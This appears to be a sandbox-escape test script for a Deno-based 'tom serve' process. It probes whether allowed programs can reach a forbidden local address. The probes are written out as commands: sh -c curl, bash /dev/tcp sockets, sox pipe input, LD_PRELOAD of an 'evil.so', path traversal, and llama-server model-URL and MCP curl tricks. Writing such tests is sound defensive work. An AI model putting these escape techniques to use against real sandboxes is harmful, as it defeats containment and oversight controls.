/**
 * Runs INSIDE the `tom serve` sandbox (the test starts it with the real servePermissionFlags) and plays an
 * attacker who got code into the served process: it tries every known way to make a program reach
 * `ESCAPE_TARGET` (host:port on a local address the egress policy forbids), once with Deno's own connect
 * (the control) and then through each program in `ESCAPE_PROGRAMS` (comma separated: the allow-run list)
 * and a few programs that must not be runnable at all. Prints one line `ESCAPE_REPORT <json>`: per
 * attempt, "refused" (Deno said NotCapable), "ran" (exit code) or "error" (another error).
 *
 * @module
 */
const target = Deno.env.get("ESCAPE_TARGET") ?? "";
const programs = (Deno.env.get("ESCAPE_PROGRAMS") ?? "").split(",").filter((p) => p !== "");
/** The provisioned servers themselves (only tom-engine-guard may start them). */
const engines = (Deno.env.get("ESCAPE_ENGINES") ?? "").split(",").filter((p) => p !== "");
const url = `http://${target}/x`;
const [host, port] = target.split(":");

interface Attempt {
  program: string;
  how: string;
  outcome: "refused" | "ran" | "error";
  detail: string;
}
const attempts: Attempt[] = [];

async function attempt(
  program: string,
  how: string,
  args: string[],
  opts: { env?: Record<string, string>; stdin?: string; ms?: number } = {},
): Promise<void> {
  const signal = AbortSignal.timeout(opts.ms ?? 4000);
  try {
    const child = new Deno.Command(program, {
      args,
      env: opts.env,
      stdin: opts.stdin === undefined ? "null" : "piped",
      stdout: "null",
      stderr: "null",
      signal,
    }).spawn();
    if (opts.stdin !== undefined) {
      const w = child.stdin.getWriter();
      await w.write(new TextEncoder().encode(opts.stdin)).catch(() => {});
      await w.close().catch(() => {});
    }
    const st = await child.status;
    attempts.push({
      program,
      how,
      outcome: "ran",
      detail: `exit ${st.code}${st.signal ? ` ${st.signal}` : ""}`,
    });
  } catch (e) {
    const name = e instanceof Error ? e.name : "Error";
    attempts.push({ program, how, outcome: name === "NotCapable" ? "refused" : "error", detail: String(e) });
  }
}

function base(p: string): string {
  return p.split("/").at(-1) ?? p;
}

// The control: Deno itself may not connect there.
try {
  (await Deno.connect({ hostname: host, port: Number(port) })).close();
  attempts.push({ program: "deno", how: "Deno.connect", outcome: "ran", detail: "connected" });
} catch (e) {
  const name = e instanceof Error ? e.name : "Error";
  attempts.push({
    program: "deno",
    how: "Deno.connect",
    outcome: name === "NotCapable" ? "refused" : "error",
    detail: String(e),
  });
}

// Programs that must not be runnable: a shell, a downloader, sox (whose "|cmd" input runs a shell).
await attempt("sh", "sh -c 'curl ...'", ["-c", `curl -s ${url}; exec 3<>/dev/tcp/${host}/${port}`]);
await attempt("bash", "bash /dev/tcp", ["-c", `exec 3<>/dev/tcp/${host}/${port}`]);
await attempt("curl", "curl URL", ["-s", "-m", "2", url]);
await attempt("sox", "sox '|cmd' pipe input", [`|curl -s ${url}`, "-n", "stat"]);
await attempt("/usr/bin/env", "env curl", ["curl", "-s", url]);

/** llama-server's ways out, tried one after another (each may start a server that must end first). */
async function llamaEscapes(p: string, pre: string[]): Promise<void> {
  await attempt(p, "-mu URL", [
    ...pre,
    "-m",
    "/tmp/tom-escape-none.gguf",
    "-mu",
    `${url}.gguf`,
    "--port",
    "0",
  ]);
  await attempt(p, "--model-url URL", [...pre, "--model-url", `${url}.gguf`, "--port", "0"]);
  await attempt(p, "-m URL", [...pre, "-m", `${url}.gguf`, "--port", "0"]);
  await attempt(p, "-hf with HF_ENDPOINT", [...pre, "-hf", "a/b", "--port", "0"], {
    env: { HF_ENDPOINT: `http://${target}`, MODEL_ENDPOINT: `http://${target}/` },
  });
  await attempt(p, "LLAMA_ARG_MODEL_URL", [...pre, "-m", "/tmp/tom-escape-none.gguf", "--port", "0"], {
    env: { LLAMA_ARG_MODEL_URL: `${url}.gguf` },
  });
  await attempt(p, "LLAMA_ARG_HF_REPO with HF_ENDPOINT", [...pre, "--port", "0"], {
    env: { LLAMA_ARG_HF_REPO: "a/b", HF_ENDPOINT: `http://${target}`, MODEL_ENDPOINT: `http://${target}/` },
  });
  await attempt(p, "--mcp-servers-json curl", [
    ...pre,
    "-m",
    "/tmp/tom-escape-none.gguf",
    "--mcp-servers-json",
    JSON.stringify({ mcpServers: { x: { command: "curl", args: ["-s", url] } } }),
    "--port",
    "0",
  ]);
  await attempt(p, "LLAMA_ARG_MCP_SERVERS_JSON curl", [
    ...pre,
    "-m",
    "/tmp/tom-escape-none.gguf",
    "--port",
    "0",
  ], {
    env: {
      LLAMA_ARG_MCP_SERVERS_JSON: JSON.stringify({ mcpServers: { x: { command: "curl", args: [url] } } }),
    },
  });
}

// The servers themselves: Deno must refuse them (they are not on the list).
for (const e of engines) await attempt(e, "run the server directly", ["--version"]);

for (const p of programs) {
  // Environment tricks: a preloaded library, a changed PATH for a relative program lookup.
  await attempt(p, "LD_PRELOAD", ["--version"], { env: { LD_PRELOAD: "/tmp/evil.so" } });
  await attempt(p, "LD_LIBRARY_PATH", ["--version"], { env: { LD_LIBRARY_PATH: "/tmp" } });
  switch (base(p)) {
    case "tom-engine-guard":
      await llamaEscapes(p, ["llama-server"]);
      await attempt(p, "another program by name", ["sh", "-c", `curl -s ${url}`]);
      await attempt(p, "another program by path", ["/usr/bin/curl", "-s", url]);
      await attempt(p, "a path out of its directory", ["../../../../usr/bin/curl", url]);
      await attempt(p, "whisper-server --convert", ["whisper-server", "--convert", "-m", url, "--port", "0"]);
      await attempt(p, "whisper-server -m URL", ["whisper-server", "-m", url, "--port", "0"]);
      break;
    case "llama-server": // a server outside the engines directory (TOM_LLM_BIN)
      await llamaEscapes(p, []);
      break;
    case "whisper-cli":
      await attempt(p, "-f URL", ["-m", url, "-f", url]);
      break;
    case "espeak-ng":
      await attempt(p, "-f URL", ["-f", url, "--stdout"]);
      await attempt(p, "--path URL", [`--path=${url}`, "-v", "de", "test", "--stdout"]);
      await attempt(p, "-v URL", ["-v", url, "test", "--stdout"]);
      await attempt(p, "SSML <audio src>", ["-m", "--stdout"], {
        stdin: `<speak><audio src="${url}"/>a</speak>`,
      });
      await attempt(p, "text that looks like options", ["--stdout", "--", `-w /tmp/x ${url}`]);
      break;
    case "piper":
      await attempt(p, "--model URL", ["--model", url, "--output_raw"], { stdin: "a\n" });
      break;
    default:
      await attempt(p, "URL argument", [url]);
  }
}

console.log(`ESCAPE_REPORT ${JSON.stringify(attempts)}`);
